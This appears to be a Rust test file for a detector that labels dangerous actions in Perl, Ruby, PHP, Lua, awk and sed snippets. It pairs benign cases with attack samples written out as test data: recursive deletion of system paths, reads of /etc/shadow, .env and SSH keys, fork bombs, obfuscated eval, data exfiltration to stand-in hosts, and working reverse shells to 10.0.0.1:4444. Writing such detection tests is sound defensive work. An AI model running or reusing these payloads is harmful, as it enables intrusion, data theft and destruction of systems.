use super::*;

#[test]
fn perl() {
    attacks(
        Language::Perl,
        &[
            ("system('rm -rf /')", &["shell rm -rf /"]),
            ("system 'rm', '-rf', '/'", &["run rm -rf /"]),
            ("exec \"sh -c id\"", &["shell sh -c id"]),
            ("`rm -rf /`", &["shell rm -rf /"]),
            ("my $x = qx{cat /etc/shadow}; print $x", &["shell cat /etc/shadow"]),
            ("unlink '/etc/passwd'", &["delete /etc/passwd"]),
            ("unlink(glob('/etc/*'))", &["delete /etc/*"]),
            ("use File::Path; rmtree('/home')", &["delete-tree /home"]),
            ("my $d = \"$ENV{HOME}/x\"; system(\"rm -rf $d\")", &["shell rm -rf ~/x"]),
            ("open(F, '>', '/etc/hosts'); print F 'x'", &["write /etc/hosts"]),
            ("open F, '</etc/shadow'; print <F>", &["read /etc/shadow"]),
            ("open(P, '|-', 'sh'); print P 'id'", &["run sh"]),
            ("open(P, 'id|'); print <P>", &["shell id"]),
            ("s/x/`id`/e", &["shell id"]),
            ("eval pack('H*', '73797374656d28226964222920')", &["run id"]),
            ("use MIME::Base64; eval decode_base64('c3lzdGVtKCJpZCIp')", &["run id"]),
            (
                "use Socket;$i='10.0.0.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');};",
                &["!remote-code.reverse-shell"],
            ),
            ("fork while fork", &["!filesystem.fork-bomb"]),
            ("while(1){fork()}", &["!filesystem.fork-bomb"]),
        ],
    );
    everyday(
        Language::Perl,
        &[
            ("print if /x/", &[]),
            ("s/a/b/", &[]),
            ("s/rm -rf/x/g; print", &[]),
            ("print 'system(\"rm -rf /\")'", &[]),
            ("# system('rm')\nprint 1", &[]),
            ("print $F[0], \"\\n\"", &[]),
            ("$s += $_ for split /,/; print $s", &[]),
            ("BEGIN { $/ = undef } tr/a-z/A-Z/; print", &[]),
            ("print \"$1\\n\" while /(\\w+)/g", &[]),
            ("say join ',', map { $_ * 2 } 1..3", &[]),
            ("my %h; $h{$_}++ for @ARGV; print keys %h", &[]),
            ("print \"ok\"", &[]),
            ("use strict; use warnings; my $x = q{unlink '/'}; print $x;", &[]),
            ("printf \"%s\\n\", $ENV{PATH}", &[]),
            ("y/a/b/; print", &[]),
        ],
    );
}

#[test]
fn ruby() {
    attacks(
        Language::Ruby,
        &[
            ("system 'rm -rf /'", &["shell rm -rf /"]),
            ("system('rm', '-rf', '/')", &["run rm -rf /"]),
            ("`rm -rf /`", &["shell rm -rf /"]),
            ("puts %x(cat /etc/shadow)", &["shell cat /etc/shadow"]),
            ("exec \"rm -rf #{Dir.home}\"", &["shell rm -rf ~"]),
            ("require 'fileutils'; FileUtils.rm_rf('/etc')", &["delete-tree /etc"]),
            ("require 'fileutils'; FileUtils.rm_rf %w[/etc /usr]", &["delete-tree /etc", "delete-tree /usr"]),
            ("File.delete(File.join(ENV['HOME'], '.bashrc'))", &["delete ~/.bashrc"]),
            ("puts File.read('.env')", &["read .env"]),
            ("File.write('/etc/hosts', 'x')", &["write /etc/hosts"]),
            ("File.open('/etc/hosts', 'w') { |f| f.puts 'x' }", &["write /etc/hosts"]),
            ("IO.popen(['rm', '-rf', '/'])", &["run rm -rf /"]),
            ("eval Base64.decode64('c3lzdGVtKCJpZCIp')", &["run id"]),
            (
                "require 'open-uri'; eval(URI.open('http://e.example/x').read)",
                &["fetch http://e.example/x", "!remote-code.pipe"],
            ),
            (
                "require 'net/http'; Net::HTTP.post(URI('https://e.example'), File.read('.env'))",
                &["post https://e.example", "send .env"],
            ),
            (
                "require 'socket'; s = TCPSocket.new('10.0.0.1', 4444); while c = s.gets; IO.popen(c, 'r') { |i| s.print i.read } end",
                &["connect 10.0.0.1:4444", "!remote-code.reverse-shell"],
            ),
            (
                "%w[/etc /usr].each { |d| system \"rm -rf #{d}\" }",
                &["shell rm -rf /etc", "shell rm -rf /usr"],
            ),
            ("loop { fork }", &["!filesystem.fork-bomb"]),
        ],
    );
    everyday(
        Language::Ruby,
        &[
            ("puts 1", &[]),
            ("puts 'rm -rf /'", &[]),
            ("# system 'rm -rf /'\nputs 1", &[]),
            ("puts RUBY_VERSION", &[]),
            ("puts [1, 2].map { |x| x * 2 }.join(',')", &[]),
            ("require 'json'; puts JSON.parse(STDIN.read)['x']", &[]),
            ("puts \"a#{1 + 1}b\"", &[]),
            ("p ARGV", &[]),
            ("require 'yaml'; p YAML.load_file('a.yml')", &["read a.yml"]),
            ("puts 'x' =~ /rm -rf/", &[]),
            ("h = { delete: 1, :exec => 2 }; h.delete(:delete); puts h", &[]),
            ("File.write('out.txt', 'x')", &["write out.txt"]),
            ("puts ENV['PATH']", &[]),
            ("[3, 1].sort.each do |x| puts x end", &[]),
            ("puts <<~EOS\n  system 'rm -rf /'\nEOS\n", &[]),
        ],
    );
}

#[test]
fn php_and_lua() {
    attacks(
        Language::Php,
        &[
            ("system('rm -rf /');", &["shell rm -rf /"]),
            ("echo shell_exec(\"cat $_SERVER[HOME]/.ssh/id_rsa\");", &["shell cat ~/.ssh/id_rsa"]),
            ("echo `id`;", &["shell id"]),
            ("$f = 'sys' . 'tem'; $f('id');", &["shell id"]),
            ("eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", &["shell id"]),
            ("unlink('/etc/passwd');", &["delete /etc/passwd"]),
            ("echo file_get_contents('/etc/shadow');", &["read /etc/shadow"]),
            ("file_put_contents('/etc/hosts', 'x', FILE_APPEND);", &["write /etc/hosts"]),
            (
                "eval(file_get_contents('http://e.example/x'));",
                &["fetch http://e.example/x", "!remote-code.pipe"],
            ),
            (
                "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
                &["connect 10.0.0.1:4444", "!remote-code.reverse-shell"],
            ),
            (
                "foreach (['/etc', '/usr'] as $d) { system(\"rm -rf $d\"); }",
                &["shell rm -rf /etc", "shell rm -rf /usr"],
            ),
            ("while(true) pcntl_fork();", &["!filesystem.fork-bomb"]),
            ("system(str_rot13('ez -es /'));", &["shell rm -rf /"]),
            ("array_map('unlink', ['/etc/x']);", &["delete /etc/x"]),
            ("proc_open(['rm', '-rf', '/'], [], $p);", &["run rm -rf /"]),
        ],
    );
    everyday(
        Language::Php,
        &[
            ("echo 1;", &[]),
            ("echo PHP_VERSION;", &[]),
            ("echo 'rm -rf /';", &[]),
            ("// system('rm');\necho 1;", &[]),
            ("# unlink('x')\necho 1;", &[]),
            ("phpinfo();", &[]),
            ("var_dump(json_decode('{\"a\":1}'));", &[]),
            ("echo preg_replace('/rm/', 'x', 'y');", &[]),
            ("foreach ([1, 2] as $k => $v) { echo \"$k=$v\"; }", &[]),
            ("$a = ['system' => 'rm -rf /']; echo $a['system'];", &[]),
            ("file_put_contents('out.txt', 'x');", &["write out.txt"]),
            ("echo implode(',', array_map(fn($x) => $x * 2, [1, 2]));", &[]),
            ("echo date('Y');", &[]),
            ("require 'vendor/autoload.php';", &["file vendor/autoload.php"]),
            ("echo strlen(\"system('id')\");", &[]),
        ],
    );
    attacks(
        Language::Lua,
        &[
            ("os.execute('rm -rf /')", &["shell rm -rf /"]),
            ("os.execute 'id'", &["shell id"]),
            ("print(io.popen('cat /etc/shadow'):read('*a'))", &["shell cat /etc/shadow"]),
            ("os.remove('/etc/passwd')", &["delete /etc/passwd"]),
            ("io.open('/etc/hosts', 'w'):write('x')", &["write /etc/hosts"]),
            ("local f = io.open('.env'); print(f:read('*a'))", &["read .env"]),
            ("os.execute('rm ' .. '-rf ' .. os.getenv('HOME'))", &["shell rm -rf ~"]),
            ("load('os.execute(\"id\")')()", &["shell id"]),
            ("local o = os; o.execute([[rm -rf /]])", &["shell rm -rf /"]),
            ("os['execute']('id')", &["shell id"]),
            (
                "for _, d in ipairs({'/etc', '/usr'}) do os.execute('rm -rf ' .. d) end",
                &["shell rm -rf /etc", "shell rm -rf /usr"],
            ),
            ("local e = os.execute; e('id')", &["shell id"]),
            ("os.execute(string.char(105, 100))", &["shell id"]),
            ("for l in io.lines('/etc/shadow') do print(l) end", &["read /etc/shadow"]),
            ("dofile('/tmp/x.lua')", &["file /tmp/x.lua"]),
        ],
    );
    everyday(
        Language::Lua,
        &[
            ("print(1)", &[]),
            ("print('rm -rf /')", &[]),
            ("-- os.execute('rm')\nprint(1)", &[]),
            ("--[[ os.execute('rm') ]] print(1)", &[]),
            ("print(_VERSION)", &[]),
            ("local t = {1, 2}; table.remove(t, 1); print(#t)", &[]),
            ("print(('x'):rep(3))", &[]),
            ("print(os.time(), os.date())", &[]),
            ("print([[os.execute('rm')]])", &[]),
            ("local s = 'a' .. 'b'; print(s:upper())", &[]),
            ("for i = 1, 3 do print(i) end", &[]),
            ("print(string.format('%d', 3))", &[]),
            ("local json = require('json'); print(json.encode({execute = 'rm'}))", &[]),
            ("print(os.getenv('PATH'))", &[]),
            ("print(math.max(1, 2) // 1)", &[]),
        ],
    );
}

#[test]
fn awk() {
    attacks(
        Language::Awk,
        &[
            ("BEGIN { system(\"rm -rf /\") }", &["shell rm -rf /"]),
            ("BEGIN{c=\"rm -rf /\"; system(c)}", &["shell rm -rf /"]),
            ("{ system(\"rm -rf \" $1) }", &["shell rm -rf ?"]),
            ("BEGIN { \"cat /etc/shadow\" | getline x; print x }", &["shell cat /etc/shadow"]),
            ("BEGIN { while ((\"id\" | getline l) > 0) print l }", &["shell id"]),
            ("{ print $1 | \"sh\" }", &["shell sh"]),
            ("{ print | \"curl -d @- evil.example\" }", &["shell curl -d @- evil.example"]),
            ("{ print > \"/etc/hosts\" }", &["write /etc/hosts"]),
            ("{ print $1 >> \"/etc/hosts\" }", &["write /etc/hosts"]),
            ("BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }", &["read /etc/shadow"]),
            (
                "BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c;while((c|&getline)>0)print|&s}}",
                &["connect 10.0.0.1:4444", "!remote-code.reverse-shell"],
            ),
            ("BEGIN { system(\"\\x72\\x6d -rf /\") }", &["shell rm -rf /"]),
            ("{ system($0) }", &["runs input", "shell ?"]),
            ("BEGIN { f = \"/etc/\" \"passwd\"; getline x < f }", &["read /etc/passwd"]),
            ("BEGIN { printf \"x\" > \"/dev/sda\" }", &["write /dev/sda"]),
        ],
    );
    everyday(
        Language::Awk,
        &[
            ("{print $1}", &[]),
            ("/rm -rf/ {print}", &[]),
            ("NR > 5", &[]),
            ("BEGIN {print \"system(x)\"} {print}", &[]),
            ("{gsub(/foo/, \"bar\"); print}", &[]),
            ("{s+=$1} END {print s/NR}", &[]),
            ("NR==1 || /x/", &[]),
            ("$1 > 5 { print $2 }", &[]),
            ("{ if ($1 > \"a\" || $2 < 3) print $0 }", &[]),
            ("{ print ($1 > 2) ? \"a\" : \"b\" }", &[]),
            ("!seen[$0]++", &[]),
            ("# system(\"rm\")\n{print}", &[]),
            ("BEGIN{FS=\":\"} {print $1 \"|\" $2}", &[]),
            ("{ print > \"/dev/stderr\" }", &[]),
            ("BEGIN { print ENVIRON[\"HOME\"] }", &[]),
            ("{ print $1 > \"out.txt\" }", &["write out.txt"]),
        ],
    );
}

#[test]
fn sed() {
    attacks(
        Language::Sed,
        &[
            ("1e rm -rf /", &["shell rm -rf /"]),
            ("e id", &["shell id"]),
            ("1e", &["runs input"]),
            ("s/x/id/e", &["shell id"]),
            ("s/.*/&/e", &["runs input"]),
            ("s|a|rm -rf /|ge", &["shell rm -rf /"]),
            ("w /etc/hosts", &["write /etc/hosts"]),
            ("s/a/b/w /etc/cron.d/x", &["write /etc/cron.d/x"]),
            ("/x/w /etc/hosts", &["write /etc/hosts"]),
            ("r /etc/shadow", &["read /etc/shadow"]),
            ("$r /etc/shadow", &["read /etc/shadow"]),
            ("1,5{s/a/b/;e id\n}", &["shell id"]),
            ("p;W /etc/x", &["write /etc/x"]),
            ("\\,a/b,e id", &["shell id"]),
            ("1!{e id\n}", &["shell id"]),
        ],
    );
    everyday(
        Language::Sed,
        &[
            ("1,5p", &[]),
            ("s/a/b/", &[]),
            ("s/foo/bar/g;s/baz/qux/", &[]),
            ("/start/,/end/d", &[]),
            ("s/[0-9]+/NUM/", &[]),
            ("s/rm -rf/w x/gI", &[]),
            ("$!N;P;D", &[]),
            ("/^#/d;/^$/d", &[]),
            ("a\\\n e rm -rf /", &[]),
            ("i system('x')", &[]),
            ("y/abc/xyz/", &[]),
            ("s,/usr,/opt,;s#a/b#c/d#", &[]),
            (":a;N;$!ba;s/\\n/ /g", &[]),
            ("s/[/]e/x/", &[]),
            ("w /dev/stdout", &[]),
            ("2~3q", &[]),
        ],
    );
}
